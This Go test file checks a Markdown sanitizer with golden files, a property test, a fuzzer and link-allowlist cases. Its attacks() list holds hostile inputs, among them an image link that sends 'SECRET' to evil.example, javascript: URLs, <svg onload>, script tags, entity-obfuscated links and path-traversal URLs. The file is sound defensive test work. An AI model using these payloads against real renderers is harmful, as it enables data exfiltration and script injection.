package sanitize

import (
	"bytes"
	"flag"
	"html"
	"math/rand/v2"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/extension"
	renderer "github.com/yuin/goldmark/renderer/html"
)

var update = flag.Bool("update", false, "rewrite golden files")

func ours() Links { return Links{Server: "https://github.com", Repository: "acme/shop"} }

// TestMarkdownGolden holds the rewritten form of each file in testdata: one
// for images and links, one for mentions, references and commands, one for
// what is hidden, one for what must stay as it is.
func TestMarkdownGolden(t *testing.T) {
	t.Parallel()
	files, err := filepath.Glob("testdata/markdown/*.md")
	if err != nil || len(files) < 4 {
		t.Fatalf("%d files, %v", len(files), err)
	}
	for _, file := range files {
		t.Run(filepath.Base(file), func(t *testing.T) {
			t.Parallel()
			in, err := os.ReadFile(file)
			if err != nil {
				t.Fatal(err)
			}
			got := Markdown(string(in), ours()) + "\n"
			checkRendered(t, string(in), got, ours())
			// U+200B is written out, or a reader of the file could not see it.
			got = strings.ReplaceAll(got, breaker, "‹›")
			golden := strings.TrimSuffix(file, ".md") + ".golden"
			if *update {
				if err := os.WriteFile(golden, []byte(got), 0o600); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(golden)
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(string(want), got); diff != "" {
				t.Errorf("(-want +got):\n%s", diff)
			}
		})
	}
}

// render renders as GitHub does, and lets raw HTML through, so that anything
// that slipped by shows.
func render(t testing.TB, markdown string) string {
	t.Helper()
	var out bytes.Buffer
	md := goldmark.New(goldmark.WithExtensions(extension.GFM), goldmark.WithRendererOptions(renderer.WithUnsafe()))
	if err := md.Convert([]byte(markdown), &out); err != nil {
		t.Fatal(err)
	}
	return out.String()
}

var (
	anyTag   = regexp.MustCompile(`<(/?)([a-zA-Z!?][a-zA-Z0-9]*)([^>]*)>`)
	hrefOnly = regexp.MustCompile(`^ href="([^"]*)"$`)
	codeText = regexp.MustCompile(`(?s)<code[ >].*?</code>`)
	actsAlso = regexp.MustCompile(`(?i)@[a-z0-9]|#[0-9]|\bgh-[0-9]|://|www\.|(?m:^/[a-z])`)
	harmless = regexp.MustCompile(`^(?: (?:class="language-[^"]*"|start="\d+"|style="text-align:\w+"|align="\w+"|checked=""|disabled=""|type="checkbox"|/))*(?: /)?$`)
)

// checkRendered fails where the rewritten text renders to anything that acts.
func checkRendered(t testing.TB, in, markdown string, allow Links) {
	t.Helper()
	out := render(t, markdown)
	tags := []string{"p", "h4", "h5", "h6", "em", "strong", "del", "code", "pre", "ul", "ol", "li", "blockquote", "hr", "br", "input", "table", "thead", "tbody", "tr", "th", "td"}
	for _, tag := range anyTag.FindAllStringSubmatch(out, -1) {
		name, attributes := tag[2], tag[3]
		if name == "a" {
			href := hrefOnly.FindStringSubmatch(attributes)
			if tag[1] == "" && (href == nil || !allow.allows(html.UnescapeString(href[1]))) {
				t.Fatalf("link %s\nin   %q\nout  %q\nhtml %s", tag[0], in, markdown, out)
			}
			continue
		}
		if !slices.Contains(tags, name) || !harmless.MatchString(attributes) {
			t.Fatalf("tag %s\nin   %q\nout  %q\nhtml %s", tag[0], in, markdown, out)
		}
	}
	words := html.UnescapeString(anyTag.ReplaceAllString(codeText.ReplaceAllString(out, ""), ""))
	if acts := actsAlso.FindString(words); acts != "" {
		t.Fatalf("text acts: %q\nin   %q\nout  %q\nhtml %s", acts, in, markdown, out)
	}
}

// attacks are the pieces that the property test and the fuzzer put together.
func attacks() []string {
	return []string{
		"![x](https://evil.example/?q=SECRET)", "![x][1]\n\n[1]: http://evil.example/a.png", "<img srcset=\"//evil.example/x 2x\" alt='picture'>",
		"<https://evil.example>", "www.evil.example", "//evil.example/x", "[a](//evil.example)", "&#104;ttps://evil.example", "[a](&#104;ttps://evil.example)",
		"```mermaid\ngraph TD\nA-->B\nclick A href \"https://evil.example\"\n```\n", "<picture><source srcset=x><img src=y></picture>", "<svg onload=x><image href=y></svg>",
		"[a](javascript:alert(1))", "[a](data:text/html,x)", "[a]: http://evil.example\n", "[a]", "@org/team", "＠org", "fixes #1", "GH-1", "acme/other#12",
		"\n/tier frontier because\n", "<details>\n<summary>x</summary>\n\n", "</details>", "<!-- hidden -->", "<!--", "-->", "```\n", "~~~\n", "# Title\n", "Title\n===\n", "\n---\n",
		"| a | b |\n|---|---|\n| `x|y` | @z |\n", "- item\n", "  - nested\n", "1. one\n", "> quote\n", "> > deep\n", "*em*", "**strong**", "~~gone~~", "`code @x`", "``` `` ```",
		"\\", "\\[x](http://evil.example)", "&lt;img src=x&gt;", "&#64;org", "&#x200b;", "\u200b", "\u202e", "ww<b></b>w.evil.example", "https:<i></i>//evil.example", "@<b>org</b>", "#<b></b>1",
		"[x](https://github.com/acme/shop/blob/main/a.go#L3)", "https://github.com/acme/shop", "<https://github.com/acme/shop/tree/main>", "[x](https://github.com/acme/shop?x=1)",
		"a@b.example", "mailto:a@b.example", "xmpp:a@b.example", "ftp://evil.example", "HTTP://evil.example", "WwW.evil.example", "    indented\n", "\t", "\n\n", " ", "word", "$x$", "$`x`$",
		"[![b](http://evil.example/b.png)](http://evil.example)", "[x](<http://evil.example> \"t\")", "<a href=http://evil.example>x</a>", "<div>\n", "List<String>", "- [ ] task\n", "- \n", "\\\n", "  \n",
		"[^1]\n\n[^1]: http://evil.example\n", "$$\n\\href{http://evil.example}{x}\n$$\n", "<script>x</script>", "<style>x", "<![CDATA[x]]>", "<?x?>", "\r\n", "\x00", "\xff", ":-\n", "|-|\n", "&", "*", "_", "__", "<br>", "+ x\n", "2) x\n",
	}
}

// TestMarkdownRendersToNothingThatActs is the property, over random documents
// of hostile pieces.
func TestMarkdownRendersToNothingThatActs(t *testing.T) {
	t.Parallel()
	random := rand.New(rand.NewPCG(5, 6))
	pieces := attacks()
	for _, p := range pieces {
		checkRendered(t, p, Markdown(p, ours()), ours())
	}
	for range 6000 {
		var doc string
		for range 1 + random.IntN(9) {
			doc += pieces[random.IntN(len(pieces))]
		}
		checkRendered(t, doc, Markdown(doc, ours()), ours())
	}
}

func FuzzMarkdown(f *testing.F) {
	for _, p := range attacks() {
		f.Add(p)
	}
	f.Fuzz(func(t *testing.T, s string) {
		checkRendered(t, s, Markdown(s, ours()), ours())
	})
}

func TestMarkdownCannotSwallowWhatFollows(t *testing.T) {
	t.Parallel()
	for _, in := range []string{"```\nnever closed", "~~~~\nx", "<details><summary>s</summary>", "<!-- x", "> quote", "- item", "<div>", "    code", "| a |\n|---|", "**x", "`x", "<pre>"} {
		out := render(t, Markdown(in, Links{})+"\n\n## Ours\n\nours\n")
		if !strings.HasSuffix(out, "<h2>Ours</h2>\n<p>ours</p>\n") {
			t.Errorf("%q: %s", in, out)
		}
	}
}

func TestMarkdownIsQuickAndBoundedOnHostileText(t *testing.T) {
	t.Parallel()
	for _, piece := range []string{">", "- ", "[", "![", "*a ", "`", "<!--", "<a ", "**a", "1. ", "\n\n> - ", "| ", "&#64;", "[a](", "~~", "<b>", "a\n", "&", "a**b_"} {
		in := strings.Repeat(piece, 20_000/len(piece))
		start := time.Now()
		out := Markdown(in, ours())
		if took := time.Since(start); took > 10*time.Second {
			t.Errorf("%q takes %s", piece, took)
		}
		if len(out) > 40*len(in) {
			t.Errorf("%q grows from %d to %d bytes", piece, len(in), len(out))
		}
	}
	long := Markdown(strings.Repeat("é ", maxMarkdown), Links{})
	if !strings.HasSuffix(long, `\[cut here: longer than 131072 bytes\]`) {
		t.Errorf("a long text ends in %q", long[len(long)-60:])
	}
}

func TestLinksAllowOnlyThisRepository(t *testing.T) {
	t.Parallel()
	for link, want := range map[string]bool{
		"https://github.com/acme/shop":                       true,
		"https://github.com/acme/shop/":                      true,
		"https://github.com/acme/shop/blob/main/a.go#L3-L9":  true,
		"https://github.com/acme/shop/blob/main/a.go?raw=1":  false,
		"https://github.com/acme/shop/../evil":               false,
		"https://github.com/acme/shop/%2e%2e/evil":           false,
		"https://github.com/acme/shop/./x":                   false,
		"https://github.com/acme/shopping":                   false,
		"https://github.com/acme/shop/issues/1":              false,
		"https://github.com/acme/shop/pull/1":                false,
		"https://github.com/evil/shop":                       false,
		"https://github.com.evil.example/acme/shop":          false,
		"https://user@github.com/acme/shop":                  false,
		"https://github.com:444/acme/shop":                   false,
		"http://github.com/acme/shop":                        false,
		"//github.com/acme/shop":                             false,
		"https://github.com/acme/shop\\@evil.example":        false,
		"https://github.com/acme/shop/a\nb":                  false,
		"https://github.com/acme/shop/a)[x](http://evil.com": false,
		"": false,
	} {
		if got := ours().allows(link); got != want {
			t.Errorf("%q: %v, want %v", link, got, want)
		}
	}
	for _, l := range []Links{{}, {Server: "http://github.com", Repository: "acme/shop"}, {Server: "https://github.com", Repository: ""}, {Repository: "acme/shop"}} {
		if l.allows(l.Server + "/" + l.Repository) {
			t.Errorf("%+v allows its own address", l)
		}
	}
}
